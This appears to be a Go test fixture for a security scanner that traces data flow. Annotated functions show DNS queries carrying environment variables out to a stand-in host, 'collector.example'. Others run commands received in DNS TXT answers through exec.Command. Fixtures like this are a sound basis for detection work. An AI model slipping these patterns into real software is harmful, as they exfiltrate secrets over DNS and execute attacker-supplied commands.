// Names that are looked up: net, miekg/dns.
package models

import (
	"context"
	"encoding/hex"
	"net"
	"os"
	"os/exec"

	"github.com/miekg/dns"
)

const U = "https://collector.example/u?"

func looked() {
	net.LookupHost(hex.EncodeToString([]byte(os.Getenv("T"))) + ".dns.collector.example") //~ source(ENVIRONMENT) f1, sink(egress.dns) f1, finding(traced) f1, capability(DNS)
}

func lookedText() {
	texts, _ := net.LookupTXT("task.collector.example") //~ source(NETWORK) f2
	exec.Command(texts[0]).Run() //~ sink(exec.command) f2, finding(traced) f2
}

func lookedConstant() {
	net.LookupHost("collector.example") //~ ok
}

func service() {
	net.LookupSRV("http", "tcp", os.Getenv("T")+".dns.collector.example") //~ source(ENVIRONMENT) f4, sink(egress.dns) f4, finding(traced) f4, capability(DNS)
}

func serviceConstant() {
	net.LookupSRV("http", "tcp", "collector.example") //~ ok
}

func resolver(r *net.Resolver, ctx context.Context) {
	r.LookupTXT(ctx, os.Getenv("T")+".dns.collector.example") //~ source(ENVIRONMENT) f6, sink(egress.dns) f6, finding(traced) f6, capability(DNS)
}

func resolverOfAll(ctx context.Context) {
	net.DefaultResolver.LookupHost(ctx, os.Getenv("T")+".dns.collector.example") //~ source(ENVIRONMENT) f7, sink(egress.dns) f7, finding(traced) f7
}

func resolverConstant(r *net.Resolver, ctx context.Context) {
	r.LookupTXT(ctx, "collector.example") //~ ok
}

func question(c *dns.Client) {
	m := new(dns.Msg)
	m.SetQuestion(os.Getenv("T")+".dns.collector.example.", dns.TypeTXT) //~ source(ENVIRONMENT) f9
	c.Exchange(m, "9.9.9.9:53") //~ sink(egress.dns) f9, finding(traced) f9
}

func questionConstant(c *dns.Client) {
	m := new(dns.Msg)
	m.SetQuestion("collector.example.", dns.TypeTXT) //~ ok
	c.Exchange(m, "9.9.9.9:53") //~ ok
}

var shared = new(dns.Client)

func questionMade() {
	m := new(dns.Msg)
	m = m.SetQuestion(os.Getenv("T")+".dns.collector.example.", dns.TypeTXT) //~ source(ENVIRONMENT) f90
	m = m.SetEdns0(4096, false)
	shared.Exchange(m, "9.9.9.9:53") //~ sink(egress.dns) f90, finding(traced) f90
}

func questionMadeConstant() {
	m := new(dns.Msg)
	m = m.SetQuestion("collector.example.", dns.TypeTXT)
	m = m.SetEdns0(4096, false) //~ ok
	shared.Exchange(m, "9.9.9.9:53") //~ ok
}

func qualified() {
	net.LookupHost(dns.Fqdn(os.Getenv("T"))) //~ source(ENVIRONMENT) f11, sink(egress.dns) f11, finding(traced) f11
	net.LookupHost(dns.Fqdn("collector.example")) //~ ok
}

func exchanged() {
	m := new(dns.Msg)
	m.SetQuestion(os.Getenv("T")+".dns.collector.example.", dns.TypeTXT) //~ source(ENVIRONMENT) f12
	dns.Exchange(m, "9.9.9.9:53") //~ sink(egress.dns) f12, finding(traced) f12, capability(DNS)
}

func exchangedConstant() {
	dns.Exchange(new(dns.Msg), "9.9.9.9:53") //~ ok
}

func client(c *dns.Client) {
	m := new(dns.Msg)
	m.SetQuestion(os.Getenv("T")+".dns.collector.example.", dns.TypeTXT) //~ source(ENVIRONMENT) f14
	c.Exchange(m, "9.9.9.9:53") //~ sink(egress.dns) f14, finding(traced) f14, capability(DNS)
}

func clientAnswer(c *dns.Client) {
	r, _, _ := c.Exchange(new(dns.Msg), "9.9.9.9:53") //~ source(NETWORK) f15
	exec.Command(r.Answer[0].String()).Run() //~ sink(exec.command) f15, finding(assumed) f15
}

func clientConstant(c *dns.Client) {
	c.Exchange(new(dns.Msg), "9.9.9.9:53") //~ ok
}

func clientContext(c *dns.Client, ctx context.Context) {
	m := new(dns.Msg)
	m.SetQuestion(os.Getenv("T")+".dns.collector.example.", dns.TypeTXT) //~ source(ENVIRONMENT) f17
	c.ExchangeContext(ctx, m, "9.9.9.9:53") //~ sink(egress.dns) f17, finding(traced) f17, capability(DNS)
}

func clientContextConstant(c *dns.Client, ctx context.Context) {
	c.ExchangeContext(ctx, new(dns.Msg), "9.9.9.9:53") //~ ok
}

func message(c *dns.Conn) {
	m := new(dns.Msg)
	m.SetQuestion(os.Getenv("T")+".dns.collector.example.", dns.TypeTXT) //~ source(ENVIRONMENT) f19
	c.WriteMsg(m) //~ sink(egress.dns) f19, finding(traced) f19, capability(DNS)
}

func messageConstant(c *dns.Conn) {
	c.WriteMsg(new(dns.Msg)) //~ ok
}

func messageRead(c *dns.Conn) {
	m, _ := c.ReadMsg() //~ source(NETWORK) f21, capability(DNS)
	exec.Command(m.Question[0].Name).Run() //~ sink(exec.command) f21, finding(traced) f21
}

func messageReadUnused(c *dns.Conn) {
	c.ReadMsg() //~ ok
}

func record(w dns.ResponseWriter) {
	rr, _ := dns.NewRR("a. TXT " + os.Getenv("T")) //~ source(ENVIRONMENT) f23
	m := new(dns.Msg)
	m.Answer = append(m.Answer, rr)
	w.WriteMsg(m) //~ sink(egress.dns) f23, finding(traced) f23
}

func recordConstant(w dns.ResponseWriter) {
	rr, _ := dns.NewRR("a. TXT b") //~ ok
	m := new(dns.Msg)
	m.Answer = append(m.Answer, rr)
	w.WriteMsg(m) //~ ok
}
